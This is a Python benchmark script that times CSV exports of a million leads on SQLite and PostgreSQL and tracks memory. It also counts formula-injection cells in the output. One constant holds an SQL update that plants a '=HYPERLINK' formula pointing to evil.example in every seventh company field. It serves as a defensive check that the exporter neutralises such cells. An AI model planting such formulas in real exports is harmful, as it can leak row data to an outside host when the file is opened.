"""Leads taken out as a list, a million of them: rows per second against a bare `SELECT` and `csv.writer`, and memory.

On SQLite and on PostgreSQL. `TERREAU_BENCH_ROWS` makes the list shorter.
"""

import csv
import os
import resource
import subprocess
import sys
import tempfile
from pathlib import Path

from sqlalchemy import select

from base.clock import elapsed, system_clocks
from bench import postgresql, scene
from bench.results import Result
from leads.exports import Narrowed, write_list
from leads.facts import COLUMNS
from leads.forgetting import Clerk
from storage.database import open_database
from storage.schema import leads

ROWS = int(os.environ.get("TERREAU_BENCH_ROWS", "1000000"))
KEY = "suppression-key-of-the-benchmark-01"
LIVE = ("=", "+", "-", "@", "\t", "\r")
SPITEFUL = "UPDATE leads SET company = '=HYPERLINK(\"https://evil.example/' || id || '\")' WHERE id % 7 = 0"


def measure() -> list[Result]:
    """For each database the ratio to the floor, the highest memory of the process, and cells that are live."""
    with tempfile.TemporaryDirectory() as name, postgresql.server() as url:
        both = {"SQLite": f"sqlite:///{name}/terreau.db", "PostgreSQL": url}
        return [one for kind, where in both.items() for one in _on(kind, where, Path(name))]


def _on(kind: str, url: str, folder: Path) -> list[Result]:
    at = scene.set_up(folder, url)
    scene.fill(at, ROWS)
    scene.run(at, [SPITEFUL], {})
    at.close()
    floor = _in_a_process("floor", folder / "floor.csv", url)[0]
    seconds, megabytes, told = _in_a_process("list", folder / "list.csv", url)
    detail = f"{ROWS / seconds:,.0f}/s of {ROWS:,} against {ROWS / floor:,.0f}/s, told {told:,.0f} times on the way"
    return [
        Result(f"leads taken out, {kind}, against a bare select", floor / seconds, 0.02, "x", detail=detail),
        Result(f"memory of taking leads out, {kind}", megabytes, 200, "MB", True),
        Result(f"live cells among them, {kind}", _live(folder / "list.csv"), 0, "cells", True),
    ]


def _live(path: Path) -> int:
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = [0, 0]
        for row in csv.reader(file):
            rows[0] += 1
            rows[1] += sum(cell.startswith(LIVE) for cell in row)
    if rows[0] != ROWS + 1:
        raise SystemExit(f"{rows[0] - 1} of {ROWS} leads are in the list")
    return rows[1]


def _in_a_process(kind: str, path: Path, url: str) -> tuple[float, float, float]:
    """(seconds, megabytes, how often progress was told): memory is that of a process that did nothing else."""
    done = subprocess.run(
        [sys.executable, "-m", "bench.exports", kind, str(path), url], capture_output=True, text=True, check=True
    )
    seconds, megabytes, told = map(float, done.stdout.split())
    return seconds, megabytes, told


def _take_out(kind: str, path: Path, url: str) -> None:
    database, told = open_database(url), [0]
    with path.open("w", encoding="utf-8-sig", newline="") as into:
        started = elapsed()
        if kind == "floor":
            with database.read() as conn:
                columns = select(*(leads.c[name] for name in COLUMNS)).order_by(leads.c.id)
                csv.writer(into).writerows(conn.execution_options(yield_per=1_000).execute(columns))
        else:

            def count(share: float, counts: object) -> None:
                told[0] += 1

            write_list(database, Narrowed(), into, KEY, Clerk("bench"), system_clocks().moment(), progress=count)
        took = elapsed() - started
    database.close()
    print(took, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, told[0])


if __name__ == "__main__":
    _take_out(sys.argv[1], Path(sys.argv[2]), sys.argv[3])
